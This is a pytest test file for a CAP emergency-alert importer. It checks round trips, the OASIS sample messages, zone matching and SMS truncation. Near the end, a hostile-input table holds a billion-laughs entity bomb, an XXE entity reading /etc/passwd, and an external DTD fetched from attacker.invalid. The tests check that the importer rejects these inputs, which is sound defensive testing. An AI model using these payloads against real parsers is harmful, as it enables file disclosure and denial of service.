"""Importing CAP messages as draft alerts: real examples, round trips, and hostile XML."""

from __future__ import annotations

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from channels.encoding import is_gsm7
from dispatcher.cap import create_draft_alert, export_cap, import_cap, validate_cap
from dispatcher.errors import InvalidInput, Refused
from dispatcher.models import Alert, AlertZone, AuditEvent, Post, Zone
from dispatcher.roster.posts import ensure_post
from dispatcher.runtime import Runtime
from dispatcher.text import fold
from tests.cap.conftest import BODIES, FIXTURES, make_alert, parse


def _post(rt: Runtime, session: Session, *extra_zones: str) -> Post:
    """The Mexico City post, plus zones named like a foreign example's areas."""
    post = ensure_post(session, rt.settings, rt.vault)
    for name in extra_zones:
        session.add(Zone(post_id=post.id, name=name, key=fold(name)))
    session.flush()
    return post


def _fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def _alert_count(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(Alert)) or 0


def _zone_names(session: Session, alert: Alert) -> set[str]:
    return set(session.scalars(select(Zone.name).join(AlertZone, AlertZone.zone_id == Zone.id)
                               .where(AlertZone.alert_id == alert.id)))


def test_round_trip_keeps_title_bodies_zones_and_kind(rt: Runtime) -> None:
    with rt.db.session() as session:
        post = _post(rt, session)
        original = make_alert(session, post, zones=("Chiapas", "Oaxaca", "Querétaro"),
                              kind="demonstration")
        draft = import_cap(session, post, export_cap(session, original.id))
        alert = create_draft_alert(session, post, draft)
        assert alert.id != original.id
        assert alert.title == original.title
        assert alert.kind == "demonstration" and alert.exercise is True
        assert alert.msg_type == "alert" and alert.state == "draft"
        assert set(alert.bodies) == {"es", "en"}
        for lang in ("es", "en"):
            for field in ("sms", "subject", "email_text"):
                assert alert.bodies[lang][field] == BODIES[lang][field], (lang, field)
        assert _zone_names(session, alert) == {"Chiapas", "Oaxaca", "Querétaro"}
        assert draft["unmatched_areas"] == []
        assert alert.reply_code == ""  # a draft holds no reply code until it is sent
        assert alert.ack_window_seconds == 900 and alert.policy == {}
        # Our own identifier is not stored again: two alerts must not export as one.
        assert alert.cap_identifier is None
        assert f"aln-mexico-city-{alert.id}".encode() in export_cap(session, alert.id)


def test_round_trip_of_an_update_finds_the_alert_it_updates(rt: Runtime) -> None:
    with rt.db.session() as session:
        post = _post(rt, session)
        first = make_alert(session, post)
        update = make_alert(session, post, msg_type="update", references_alert_id=first.id)
        draft = import_cap(session, post, export_cap(session, update.id))
    assert draft["msg_type"] == "update"
    assert draft["references_alert_id"] == first.id


def test_homeland_security_example_becomes_a_real_security_draft(rt: Runtime) -> None:
    with rt.db.session() as session:
        post = _post(rt, session, "U.S. nationwide and interests worldwide")
        draft = import_cap(session, post, _fixture("oasis_a1_homeland_security.xml"))
        alert = create_draft_alert(session, post, draft)
        assert alert.title == "Homeland Security Sets Code ORANGE"
        assert alert.kind == "security" and alert.exercise is False
        assert alert.cap_identifier == "43b080713727"
        body = alert.bodies["en"]
        assert body["email_text"].startswith("The Department of Homeland Security")
        assert body["email_text"].endswith("will be released in near future.")
        assert body["sms"].startswith("Homeland Security Sets Code ORANGE: The Department")
        assert len(body["sms"]) <= 306
        assert "<h1>Homeland Security Sets Code ORANGE</h1>" in body["email_html"]
        audit = session.scalars(select(AuditEvent).where(AuditEvent.alert_id == alert.id)).one()
        assert audit.action == "alert.drafted_from_cap"


def test_thunderstorm_example_is_weather(rt: Runtime) -> None:
    area = ("EXTREME NORTH CENTRAL TUOLUMNE COUNTY IN CALIFORNIA, EXTREME NORTHEASTERN "
            "CALAVERAS COUNTY IN CALIFORNIA, SOUTHWESTERN ALPINE COUNTY IN CALIFORNIA")
    with rt.db.session() as session:
        post = _post(rt, session, area.title())
        draft = import_cap(session, post, _fixture("oasis_a2_thunderstorm.xml"))
    assert draft["kind"] == "weather"
    assert draft["title"] == "SEVERE THUNDERSTORM WARNING"
    assert draft["zones"] == [area.title()]  # matched whatever the case
    assert draft["bodies"]["en"]["email_text"].endswith(
        "TAKE COVER IN A SUBSTANTIAL SHELTER UNTIL THE STORM PASSES.")


def test_earthquake_update_reports_unmatched_areas_but_imports(rt: Runtime) -> None:
    with rt.db.session() as session:
        post = _post(rt, session, "1 mi. WSW of Brawley, CA")
        draft = import_cap(session, post, _fixture("oasis_a3_earthquake.xml"))
        alert = create_draft_alert(session, post, draft)
        assert alert.msg_type == "update" and alert.kind == "security"
        assert alert.references_alert_id is None  # refers to a message we never had
        assert draft["zones"] == ["1 mi. WSW of Brawley, CA"]
        assert draft["unmatched_areas"] == ["11 mi. N of El Centro, CA",
                                            "30 mi. E of OCOTILLO (quarry)",
                                            "1 mi. N of the Imperial Fault"]
        assert _zone_names(session, alert) == {"1 mi. WSW of Brawley, CA"}


def test_multilingual_amber_alert_keeps_both_languages(rt: Runtime) -> None:
    with rt.db.session() as session:
        post = _post(rt, session, "Los Angeles County")
        draft = import_cap(session, post, _fixture("oasis_a4_amber.xml"))
    assert set(draft["bodies"]) == {"en", "es"}
    # The post speaks Spanish first, so the Spanish headline is the title.
    assert draft["title"] == "Alerta Amber en el condado de Los Ángeles"
    assert draft["bodies"]["en"]["subject"] == "Amber Alert in Los Angeles County"
    assert draft["bodies"]["es"]["email_text"].startswith("DÍA/HORA")
    assert draft["zones"] == ["Los Angeles County"]
    assert draft["unmatched_areas"] == ["condado de Los Ángeles"]


def test_weather_service_alert_matches_zones_without_case_or_accents(rt: Runtime) -> None:
    with rt.db.session() as session:
        post = _post(rt, session)
        draft = import_cap(session, post, _fixture("weather_service_hurricane.xml"))
        alert = create_draft_alert(session, post, draft)
        assert draft["kind"] == "weather" and draft["exercise"] is False
        assert draft["zones"] == ["Oaxaca", "Chiapas", "Querétaro"]
        assert draft["unmatched_areas"] == ["Guatemala border", "Oaxca coast"]
        assert "did you mean 'Oaxaca'?" in draft["unmatched_hints"][1]
        assert _zone_names(session, alert) == {"Oaxaca", "Chiapas", "Querétaro"}
        assert alert.cap_identifier is not None and alert.cap_identifier.startswith("urn:oid:")
        sms = alert.bodies["en"]["sms"]
        assert len(sms) <= 306 and sms.endswith("...")
        # Importing the same message twice is refused, naming the first draft.
        with pytest.raises(Refused, match=f"already imported as alert {alert.id}"):
            create_draft_alert(session, post, import_cap(session, post, _fixture(
                "weather_service_hurricane.xml")))


def test_a_draft_exports_back_as_valid_cap(rt: Runtime) -> None:
    with rt.db.session() as session:
        post = _post(rt, session)
        alert = create_draft_alert(session, post, import_cap(
            session, post, _fixture("weather_service_hurricane.xml")))
        assert validate_cap(export_cap(session, alert.id)) == []


@pytest.mark.parametrize("status, exercise", [
    ("Actual", False), ("Exercise", True), ("Test", True), ("System", True), ("Draft", True)])
def test_only_actual_messages_make_real_alerts(rt: Runtime, status: str, exercise: bool) -> None:
    xml = _fixture("weather_service_hurricane.xml").replace(
        b"<status>Actual</status>", f"<status>{status}</status>".encode())
    with rt.db.session() as session:
        assert import_cap(session, _post(rt, session), xml)["exercise"] is exercise


def test_an_aln_sms_parameter_obeys_the_imported_sms_limit(rt: Runtime) -> None:
    huge = "Evacuate now. " * 3600  # 50,400 characters carried as ALN-SMS
    xml = _fixture("weather_service_hurricane.xml").replace(
        b"</info>", f"<parameter><valueName>ALN-SMS</valueName><value>{huge}</value>"
                    "</parameter></info>".encode(), 1)
    with rt.db.session() as session:
        post = _post(rt, session)
        alert = create_draft_alert(session, post, import_cap(session, post, xml))
        sms = alert.bodies["en"]["sms"]
        assert 290 <= len(sms) <= 306 and sms.startswith("Evacuate now.")


def test_an_unknown_status_is_refused_not_taken_for_an_exercise(rt: Runtime) -> None:
    xml = _fixture("weather_service_hurricane.xml").replace(
        b"<status>Actual</status>", b"<status>Urgent</status>")
    with rt.db.session() as session:
        post = _post(rt, session)
        with pytest.raises(InvalidInput, match="<status> 'Urgent' is not one of Actual"):
            import_cap(session, post, xml)
        assert _alert_count(session) == 0


@pytest.mark.parametrize("fixture", sorted(p.name for p in FIXTURES.glob("*.xml")))
def test_cutting_an_imported_sms_never_makes_it_ucs2(rt: Runtime, fixture: str) -> None:
    xml = _fixture(fixture)
    with rt.db.session() as session:
        known = {fold(z) for z in _zone_names_of_post(rt, session)}
        post = _post(rt, session, *[n for n in _area_names(xml) if fold(n) not in known])
        draft = import_cap(session, post, xml)
    for body in draft["bodies"].values():
        sms = body["sms"]
        assert len(sms) <= 306
        uncut = f"{body['subject']}: {body['email_text']}"
        if is_gsm7(uncut):
            assert is_gsm7(sms), sms[-20:]


def _zone_names_of_post(rt: Runtime, session: Session) -> list[str]:
    post = ensure_post(session, rt.settings, rt.vault)
    return list(session.scalars(select(Zone.name).where(Zone.post_id == post.id)))


def _area_names(xml: bytes) -> list[str]:
    doc = parse(xml)
    names = doc.xpath("//*[local-name()='areaDesc']/text()")
    unique = {fold(n): n.strip() for name in names for n in name.split(";") if n.strip()}
    return sorted(unique.values())


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE alert [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.invalid/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>"""

HOSTILE = {
    "billion-laughs": (BILLION_LAUGHS, "DOCTYPE"),
    "external-entity": (EXTERNAL_ENTITY, "DOCTYPE"),
    "external-dtd": (EXTERNAL_DTD, "DOCTYPE"),
    "truncated": (_fixture("oasis_a1_homeland_security.xml")[:400], "not well-formed"),
    "mismatched-tags": (b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'><info></alert>",
                        "not well-formed"),
    "empty": (b"", "not well-formed"),
    "not-xml": (b"STOP 4821", "not well-formed"),
    "atom-feed": (b"<feed xmlns='http://www.w3.org/2005/Atom'><entry/></feed>",
                  "not a CAP 1.2 message: the root element is <feed>"),
    "no-namespace": (b"<alert><identifier>x</identifier></alert>", "(no namespace)"),
    "cap-ack": (_fixture("oasis_a1_homeland_security.xml").replace(
        b"<msgType>Alert</msgType>", b"<msgType>Ack</msgType>"), "msgType 'Ack'"),
    "no-info": (b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'><status>Actual</status>"
                b"<msgType>Alert</msgType></alert>", "no <info>"),
    "no-status": (b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'>"
                  b"<msgType>Alert</msgType></alert>", "no <status>"),
    "no-zone-matches": (_fixture("oasis_a1_homeland_security.xml"),
                        "zone 'U.S. nationwide and interests worldwide' not found"),
    "too-big": (b" " * (1024 * 1024 + 1), "more than 1048576"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_or_broken_xml_is_refused_and_creates_nothing(rt: Runtime, name: str) -> None:
    xml, message = HOSTILE[name]
    with rt.db.session() as session:
        post = _post(rt, session)
        with pytest.raises(InvalidInput) as caught:
            create_draft_alert(session, post, import_cap(session, post, xml))
        assert message in str(caught.value)
        assert "root:" not in str(caught.value)  # /etc/passwd never leaks into a message
        assert _alert_count(session) == 0


def test_import_accepts_text_as_well_as_bytes(rt: Runtime) -> None:
    text = _fixture("weather_service_hurricane.xml").decode("utf-8")
    with rt.db.session() as session:
        assert import_cap(session, _post(rt, session), text)["zones"][0] == "Oaxaca"
